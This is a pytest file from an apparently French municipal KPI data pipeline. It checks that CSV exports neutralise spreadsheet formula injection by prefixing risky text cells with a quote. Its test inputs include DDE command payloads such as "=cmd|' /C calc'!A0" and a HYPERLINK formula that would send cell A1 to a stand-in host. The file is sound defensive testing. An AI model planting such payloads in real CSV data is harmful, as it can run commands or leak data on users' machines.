"""Text cells of the CSV files people open never become formulas (issue 15, item 3).

``csv_safety.neutralise`` (OWASP: a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a ``'`` before it; numbers untouched) in every CSV written for people:
rejection reports (also tests/unit/ingest/test_bad_inputs.py, case
``formula_text_in_number_column``), notices, the reminders' journal, ``kpi diff --csv``, a
release's ``values.csv`` — whose rendering is recorded in the manifest, so a release frozen
before still verifies.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import zipfile

import duckdb
import pytest
from support.warehouses import YEAR, build_warehouse, fake_exports

from dagster_project.lib.csv_safety import neutralise, neutralise_row
from dagster_project.lib.hashing import sha256_file
from dagster_project.release import freeze as freeze_module
from dagster_project.release.diff import ValueChange, write_diff_csv
from dagster_project.release.freeze import freeze
from dagster_project.release.manifest import VALUES_CSV_FORMAT, values_sha256
from dagster_project.release.verify import verify

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez ici")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=SOMME(A1:A3)", "'=SOMME(A1:A3)"),
        ("+33 3 21 00 00 00", "'+33 3 21 00 00 00"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1 250,5 m3", "'-1 250,5 m3"),
        ("- voir la note", "'- voir la note"),
        # unchanged: ordinary text, and a number alone (it cannot be a formula)
        ("Béthune", "Béthune"),
        ("a=b", "a=b"),
        ("", ""),
        ("-3.5", "-3.5"),
        ("-1\u202f234,5", "-1\u202f234,5"),
        ("+12", "+12"),
        ("-1e+20", "-1e+20"),
    ],
)
def test_neutralise(text, written):
    assert neutralise(text) == written


def test_only_text_is_neutralised():
    assert neutralise_row([-3.5, None, 12, dt.date(2025, 1, 1), "=x"]) == [
        -3.5,
        None,
        12,
        dt.date(2025, 1, 1),
        "'=x",
    ]


# --- a release's values.csv -------------------------------------------------------------------


@pytest.fixture
def con(tmp_path, monkeypatch):
    monkeypatch.setattr(freeze_module, "_write_exports", fake_exports)
    connection = duckdb.connect(str(build_warehouse(tmp_path / "w.duckdb")))
    connection.execute(
        "update marts.fct_indicator_values set comment = ? "
        "where indicator_id = 'declared_budget' and year = 2025",
        [FORMULA],
    )
    connection.execute(
        "update marts.fct_indicator_values set unit = '-' "
        "where indicator_id = 'water_network_length' and code_insee = '62126'"
    )
    yield connection
    connection.close()


def _rows(path) -> dict[tuple, dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return {(r["indicator_id"], r["code_insee"]): r for r in csv.DictReader(handle)}


def test_values_csv_neutralises_text_and_keeps_the_original_in_parquet(con, tmp_path):
    release = freeze(con, YEAR, tmp_path / "releases")
    rows = _rows(release.folder / "values.csv")
    assert rows[("declared_budget", "")]["comment"] == "'" + FORMULA
    assert rows[("declared_budget", "")]["value"] == "1000.0"
    assert rows[("water_network_length", "62126")]["unit"] == "'-"
    assert rows[("water_network_length", "62126")]["value"] == "10.5"
    parquet = str(release.folder / "values.parquet")
    assert con.execute(
        "select comment from read_parquet(?) where indicator_id = 'declared_budget'", [parquet]
    ).fetchone() == (FORMULA,)
    manifest = json.loads((release.folder / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["values_csv_format"] == VALUES_CSV_FORMAT == 2
    assert sha256_file(release.folder / "values.csv") == manifest["values_sha256"]
    assert verify(con, tmp_path / "releases").intact


def test_a_release_frozen_before_the_neutralisation_still_verifies(con, tmp_path, monkeypatch):
    """Frozen with the earlier rendering (no ``values_csv_format`` in its manifest: text as
    it is), it is re-rendered that way by ``kpi verify``: intact, and still tamper-evident."""
    releases = tmp_path / "releases"
    monkeypatch.setattr(freeze_module, "VALUES_CSV_FORMAT", 1)  # the code before the change
    v1 = freeze(con, YEAR, releases)
    monkeypatch.setattr(freeze_module, "VALUES_CSV_FORMAT", 2)
    manifest = json.loads((v1.folder / "manifest.json").read_text(encoding="utf-8"))
    assert "values_csv_format" not in manifest
    assert _rows(v1.folder / "values.csv")[("declared_budget", "")]["comment"] == FORMULA
    # rendered today's way, its values would not give the hash recorded at the freeze
    assert values_sha256(con, v1.release_id) != manifest["values_sha256"]
    assert values_sha256(con, v1.release_id, 1) == manifest["values_sha256"]
    result = verify(con, releases)
    assert result.intact, result.problems

    v2 = freeze(con, YEAR, releases, reason="rendu CSV neutralisé")
    assert _rows(v2.folder / "values.csv")[("declared_budget", "")]["comment"] == "'" + FORMULA
    result = verify(con, releases)
    assert result.intact and result.checked == ["RA-2025-v1", "RA-2025-v2"], result.problems

    con.execute(  # a value of v1 changed in the warehouse: seen, in its own rendering
        "update release.release_values set comment = '''' || comment "
        "where release_id = 'RA-2025-v1' and indicator_id = 'declared_budget'"
    )
    problems = verify(con, releases).problems
    assert any(
        "RA-2025-v1 : les valeurs de release.release_values ont été modifiées" in p
        for p in problems
    )
    assert not any(p.startswith("RA-2025-v2 :") for p in problems)


# --- the other CSV files written for people ----------------------------------------------------


def test_kpi_diff_csv(tmp_path):
    path = tmp_path / "diff.csv"
    change = ValueChange(
        "modifiée", "=x", None, -3.5, 2.0, "-", "eur", label="+ de 2 500", commune=None
    )
    write_diff_csv([change], path)
    with path.open(encoding="utf-8-sig", newline="") as handle:  # French Excel's dialect
        [_, row] = list(csv.reader(handle, delimiter=";"))
    assert row == [
        "modifiée",
        "'=x",
        "'+ de 2 500",
        "",
        "agglomération",
        "-3,5",
        "2",
        "'-",  # an unknown unit stays as it is (neutralised)
        "€",
    ]


def test_notice_of_values_to_confirm(tmp_path):
    from dagster_project.quality.notices import _write_atomically

    path = tmp_path / "eau_volumes_2025.xlsx.a_confirmer.csv"
    _write_atomically(path, [["=x", "@libellé", "", "2025", "-3,5", "-1\u202f234", "+10 %", "?"]])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        [_, row] = list(csv.reader(handle, delimiter=";"))
    assert row == ["'=x", "'@libellé", "", "2025", "-3,5", "-1\u202f234", "'+10 %", "?"]


def test_reminders_journal(tmp_path):
    from dagster_project.campaign.mail import record_reminder

    journal = record_reminder(
        tmp_path,
        written_on=dt.date(2026, 2, 20),
        contact="=cmd|' /C calc'!A0",
        email="x@bethunebruay.fr",
        subject="-relance",
        path=tmp_path / "relances" / "relance.eml",
        sources=["eau_udi"],
        attachments=["@piece.csv"],
    )
    with journal.open(encoding="utf-8-sig", newline="") as handle:
        [_, row] = list(csv.reader(handle, delimiter=";"))
    assert row[:4] == ["20/02/2026", "'=cmd|' /C calc'!A0", "x@bethunebruay.fr", "'-relance"]
    assert row[6] == "'@piece.csv"


def test_status_workbook_keeps_text_as_text(tmp_path):
    from dagster_project.campaign.status import StatusRow
    from dagster_project.campaign.status_report import export_status_xlsx

    row = StatusRow(year=2025, department="water", source_id="eau_udi", owner="=1+1")
    path = export_status_xlsx([row], tmp_path / "etat.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "=1+1" in sheet
